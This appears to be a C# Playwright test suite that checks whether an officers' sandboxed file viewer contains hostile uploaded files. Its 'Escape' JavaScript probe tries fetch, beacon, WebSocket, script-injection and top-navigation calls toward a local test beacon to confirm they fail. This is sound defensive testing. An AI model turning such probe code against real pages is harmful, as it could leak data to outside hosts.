using IntegrityChannel.Journeys.Channel;
using IntegrityChannel.Journeys.Pages;
using Microsoft.Playwright;

namespace IntegrityChannel.Journeys.Stories;

/// <summary>
/// Files made to do harm, in a real browser on the officers' page: no script of theirs runs, nothing goes out, nothing navigates, no dialog
/// opens, and what is saved bears a name of ours. Nothing is blocked for the test; three detectors listen (a server, the browser's requests,
/// its console), and a control shows that they hear.
/// </summary>
public sealed class HostileFilesTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact(Timeout = Patience.Journey)]
    [Trait("lane", "full")]
    public async Task The_same_page_opened_directly_would_be_heard_by_every_detector()
    {
        Prerequisites.Require();
        await using var beacon = new Beacon();
        await using var browser = await Browser.StartAsync();
        var page = await browser.OpenAsync(new Uri("about:blank"));
        var ears = new Ears(page, browser, beacon, new Uri("about:blank"));

        // From the same machine as everything here: browsers keep pages of unknown places from asking it anything.
        beacon.Answer = HostileFiles.Page(beacon.Address);
        await page.GotoAsync(beacon.Address.ToString());
        for (var waited = 0; waited < 50 && !(ears.DialogOpened && ears.Asked("/pixel") && ears.Asked("/script")); waited++)
        {
            await page.WaitForTimeoutAsync(200);
        }

        Assert.True(ears.ScriptRan);
        Assert.True(ears.DialogOpened);
        Assert.True(ears.Asked("/pixel"));
        Assert.True(ears.Asked("/script"));
        Assert.NotEmpty(ears.Outside());
    }

    /// <summary>The frame alone, given every file as text and as an image whatever it is judged to be, and then a script of its own.</summary>
    [Fact(Timeout = Patience.Journey)]
    [Trait("lane", "full")]
    public async Task The_viewer_frame_shuts_in_whatever_it_is_given()
    {
        await using var beacon = new Beacon();
        await using var channel = await ChannelUnderTest.StartAsync("2026-11-09T10:00:00+01:00", Ct);
        await using var browser = await Browser.StartAsync();
        var page = await browser.OpenAsync(channel.Casework);
        // The page draws itself once; what was put into it before would be gone.
        await page.Locator("#name").WaitForAsync();
        var ears = new Ears(page, browser, beacon, channel.Casework);
        var corpus = HostileFiles.All(beacon.Address, await JpegAsync(page));

        foreach (var file in corpus)
        {
            Assert.True(await ShowInFrameAsync(page, "text", file.Bytes), file.Name);
            Assert.Equal(0, await page.Frames[^1].EvaluateAsync<int>("() => document.querySelectorAll('script, img, iframe, svg, link').length"));
            var drawn = await ShowInFrameAsync(page, "image", file.Bytes);
            Assert.Equal(file.Shown == "image", drawn);
        }

        Assert.Equal("null", await page.Frames[^1].EvaluateAsync<string>("() => self.origin"));
        Assert.Empty(browser.ConsoleErrors);
        ears.HeardNothing();

        var escaped = await page.Frames[^1].EvaluateAsync<string[]>(Escape, beacon.Address.ToString());
        Assert.Empty(escaped);
        await page.WaitForTimeoutAsync(1_000);
        // A browser may open a connection ahead of a navigation that it then refuses; nothing is asked over it.
        Assert.All(beacon.Heard, line => Assert.Equal("connection", line));
        Assert.StartsWith(channel.Casework.ToString(), page.Url, StringComparison.Ordinal);
    }

    /// <summary>The whole way: sealed and attached by one officer, looked at and saved by another from what the host keeps.</summary>
    [Fact(Timeout = Patience.Journey)]
    [Trait("lane", "full")]
    public async Task Nothing_of_the_corpus_acts_through_the_officers_page()
    {
        await using var beacon = new Beacon();
        await using var channel = await ChannelUnderTest.StartAsync("2026-11-09T10:00:00+01:00", Ct);
        await using var browser = await Browser.StartAsync();
        await ReportAsync(browser, channel);
        var writer = await OpenCaseAsync(browser, channel, "verantwoordelijke");
        var corpus = HostileFiles.All(beacon.Address, await JpegAsync(writer.Page));
        await writer.Page.SetInputFilesAsync("#attach", corpus.Select(file => new FilePayload { Name = file.Name, MimeType = "text/html", Buffer = file.Bytes }));
        await writer.ReplyAsync(Marker.Question);
        await writer.Page.Context.CloseAsync();

        var reader = await OpenCaseAsync(browser, channel, "plaatsvervanger");
        var ears = new Ears(reader.Page, browser, beacon, channel.Casework);
        var number = (await reader.Page.Locator("main h1").InnerTextAsync()).Split(' ')[^1];
        var rows = reader.Page.Locator(".thread .attached > li");
        await Assertions.Expect(rows).ToHaveCountAsync(corpus.Count);
        for (var at = 0; at < corpus.Count; at++)
        {
            await LookAsync(reader, rows.Nth(at), corpus[at]);
            await SaveAsync(reader, rows.Nth(at), corpus[at], $"{number}-{at + 1}.{corpus[at].SavedAs}");
            ears.HeardNothing();
        }

        Assert.DoesNotContain('\u202E', await reader.Page.Locator("main").InnerTextAsync());
        Assert.Empty(browser.ConsoleErrors);
    }

    private static async Task ReportAsync(Browser browser, ChannelUnderTest channel)
    {
        var reporter = await ReporterPage.OpenAsync(browser, channel.Intake);
        await reporter.FingerprintAsync();
        await reporter.BeginReportAsync();
        await reporter.WriteAsync(Marker.Report);
        await reporter.NoteCodeAsync();
        await reporter.SendAsync();
    }

    private static async Task<OfficerPage> OpenCaseAsync(Browser browser, ChannelUnderTest channel, string name)
    {
        var officer = await OfficerPage.OpenAsync(browser, channel.Casework);
        await officer.SignInAsync(name, channel.Passphrases()[name]);
        await officer.OpenFirstCaseOnceItIsThereAsync(channel.Passphrases()[name], Ct);
        return officer;
    }

    private static async Task LookAsync(OfficerPage officer, ILocator row, HostileFile file)
    {
        var texts = Texts.Officer("nl");
        await row.GetByRole(AriaRole.Button, new() { Name = texts["file.look"] }).ClickAsync();
        if (file.Shown is null)
        {
            await Assertions.Expect(row.GetByText(texts["file.not-shown"])).ToBeVisibleAsync();
        }
        else
        {
            var shown = officer.Page.FrameLocator("iframe.viewer-frame").Locator(file.Shown == "text" ? "pre" : "canvas");
            await Assertions.Expect(shown).ToHaveCountAsync(1);
            await officer.Page.GetByRole(AriaRole.Dialog).GetByRole(AriaRole.Button, new() { Name = texts["close"] }).ClickAsync();
        }

        await Assertions.Expect(officer.Page.Locator("iframe")).ToHaveCountAsync(0);
        await Assertions.Expect(row).ToContainTextAsync(texts[$"file.kind.{file.Kind}"]);
    }

    private static async Task SaveAsync(OfficerPage officer, ILocator row, HostileFile file, string name)
    {
        var texts = Texts.Officer("nl");
        await row.GetByRole(AriaRole.Button, new() { Name = texts["file.save"], Exact = false }).First.ClickAsync();
        var download = await officer.Page.RunAndWaitForDownloadAsync(() => row.Locator(".notice").GetByRole(AriaRole.Button).ClickAsync());
        Assert.Equal(name, download.SuggestedFilename);
        Assert.Equal(file.Bytes, await File.ReadAllBytesAsync(await download.PathAsync(), Ct));
        await Assertions.Expect(row.GetByText(texts["file.saved-checked"])).ToBeVisibleAsync();
    }

    /// <summary>What a script would try that got into the frame all the same; returns what worked.</summary>
    private const string Escape =
        """
        async beacon => {
          const worked = [];
          const attempt = async (name, act) => { try { if (await act()) worked.push(name); } catch { } };
          const within = (promise) => Promise.race([promise, new Promise(resolve => setTimeout(() => resolve(false), 500))]);
          await attempt("fetch", async () => { await within(fetch(beacon + "a", { mode: "no-cors" })); return false; });
          await attempt("beacon", () => { navigator.sendBeacon(beacon + "b", "x"); return false; });
          await attempt("image", () => within(new Promise(resolve => { const image = new Image(); image.onload = () => resolve(true); image.onerror = () => resolve(false); image.src = beacon + "c"; })));
          await attempt("socket", () => within(new Promise(resolve => { const socket = new WebSocket(beacon.replace("http", "ws")); socket.onopen = () => resolve(true); socket.onerror = () => resolve(false); })));
          await attempt("style", () => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = beacon + "d"; document.head.append(link); return false; });
          await attempt("script element", () => within(new Promise(resolve => { const script = document.createElement("script"); script.onload = () => resolve(true); script.onerror = () => resolve(false); script.setAttribute("src", beacon + "e"); document.head.append(script); })));
          await attempt("markup", () => { document.body.innerHTML = "<img src=x>"; return true; });
          await attempt("eval", () => (0, eval)("1") === 1);
          await attempt("frame", () => { const frame = document.createElement("iframe"); frame.src = beacon + "f"; document.body.append(frame); return false; });
          await attempt("form", () => { const form = document.createElement("form"); form.action = beacon + "g"; document.body.append(form); form.submit(); return false; });
          await attempt("window", () => open(beacon + "h") !== null);
          await attempt("parent", () => parent.document !== undefined);
          await attempt("storage", () => localStorage !== null);
          await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie !== ""; });
          await attempt("top", () => { top.location.href = beacon + "i"; return false; });
          // Last, and after the answer: what comes of it is no page that could answer.
          setTimeout(() => { location.href = beacon + "j"; }, 100);
          return worked;
        }
        """;

    /// <summary>Gives the frame one file as the officers' page does; true when it says that it shows it.</summary>
    private static async Task<bool> ShowInFrameAsync(IPage page, string kind, byte[] bytes) =>
        await page.EvaluateAsync<bool>(
            """
            async ([kind, base64]) => {
              document.querySelectorAll("iframe").forEach(old => old.remove());
              const frame = document.createElement("iframe");
              frame.setAttribute("sandbox", "allow-scripts");
              frame.src = document.documentElement.dataset.viewer;
              const loaded = new Promise(resolve => frame.addEventListener("load", resolve));
              document.body.append(frame);
              await loaded;
              const bytes = Uint8Array.from(atob(base64), letter => letter.charCodeAt(0));
              const channel = new MessageChannel();
              const answer = new Promise(resolve => { channel.port1.onmessage = event => resolve(event.data.shown === true); });
              const message = { kind, label: "x", language: "nl", type: "image/jpeg", text: new TextDecoder().decode(bytes), bytes: bytes.buffer };
              frame.contentWindow.postMessage(message, "*", [channel.port2, bytes.buffer]);
              return await answer;
            }
            """,
            new[] { kind, Convert.ToBase64String(bytes) });

    /// <summary>A true picture, made by the browser itself.</summary>
    private static async Task<byte[]> JpegAsync(IPage page)
    {
        var address = await page.EvaluateAsync<string>("() => { const canvas = document.createElement('canvas'); canvas.width = 64; canvas.height = 48; canvas.getContext('2d').fillRect(8, 8, 30, 20); return canvas.toDataURL('image/jpeg'); }");
        return Convert.FromBase64String(address.Split(',')[1]);
    }

    /// <summary>Listens on one page for everything that a hostile file could do.</summary>
    private sealed class Ears
    {
        private readonly Browser _browser;
        private readonly Beacon _beacon;
        private readonly List<string> _moved = [];

        public Ears(IPage page, Browser browser, Beacon beacon, Uri home)
        {
            (_browser, _beacon) = (browser, beacon);
            page.Console += (_, message) => ScriptRan |= message.Text.Contains(HostileFiles.ScriptRan, StringComparison.Ordinal);
            page.Dialog += (_, dialog) =>
            {
                DialogOpened = true;
                _ = dialog.DismissAsync();
            };
            page.Popup += (_, popup) => _moved.Add(popup.Url);
            page.FrameNavigated += (_, frame) =>
            {
                if (!frame.Url.StartsWith(home.ToString(), StringComparison.Ordinal) && frame.Url != "about:blank")
                {
                    _moved.Add(frame.Url);
                }
            };
        }

        public bool ScriptRan { get; private set; }

        public bool DialogOpened { get; private set; }

        public bool Asked(string path) => _beacon.Heard.Any(line => line.Contains($" {path} ", StringComparison.Ordinal));

        /// <summary>Requests to anywhere but the machine's own two hosts.</summary>
        public IReadOnlyList<string> Outside()
        {
            lock (_browser.Requests)
            {
                return [.. _browser.Requests.Select(request => request.Address).Where(address => address.StartsWith(_beacon.Address.ToString(), StringComparison.Ordinal))];
            }
        }

        public void HeardNothing()
        {
            Assert.False(ScriptRan);
            Assert.False(DialogOpened);
            Assert.Empty(_beacon.Heard);
            Assert.Empty(Outside());
            Assert.Empty(_moved);
        }
    }
}
